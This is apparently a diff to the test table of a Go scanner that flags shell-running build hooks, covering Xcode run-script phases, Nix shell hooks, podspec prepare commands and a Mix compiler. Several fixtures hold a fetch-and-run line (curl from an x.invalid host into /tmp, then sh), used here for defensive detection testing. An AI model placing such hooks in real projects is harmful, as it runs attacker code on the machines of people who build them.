@@ -154,6 +154,13 @@ var registry = []Rule{
 		{"devbox.json", "{\n  \"shell\": {\n    \"init_hook\": [\"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"sh /tmp/b.sh\"]\n  }\n}", 3, false},
 		{"pyproject.toml", "[tool.pdm.scripts]\ntest = {cmd = \"pytest -x tests\"}\npost_install = \"pre-commit install\"\n\n[tool.hatch.envs.default.scripts]\ncov = [\"coverage run -m pytest\", \"coverage report\"]\n\n[tool.cibuildwheel]\nbefore-all = \"yum install -y openssl-devel\"\ntest-command = \"pytest {project}/tests\"", 0, true},
 		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - ./scripts/completions.sh\nbuilds:\n  - hooks:\n      post:\n        - cmd: upx \"{{ .Path }}\"", 0, true},
+		// Strings of their own syntax that are shell: an Xcode run-script
+		// phase, Nix's build phases and shell hook, a podspec's prepare_command.
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tshellScript = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\\nsh /tmp/b.sh\\n\";\n\t\t};", 3, false},
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tshellScript = \"if which swiftlint >/dev/null; then\\n  swiftlint\\nelse\\n  echo \\\"warning: SwiftLint not installed, download from https://github.com/realm/SwiftLint\\\"\\nfi\\n\";\n\t\t};", 0, true},
+		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
+		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
+		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
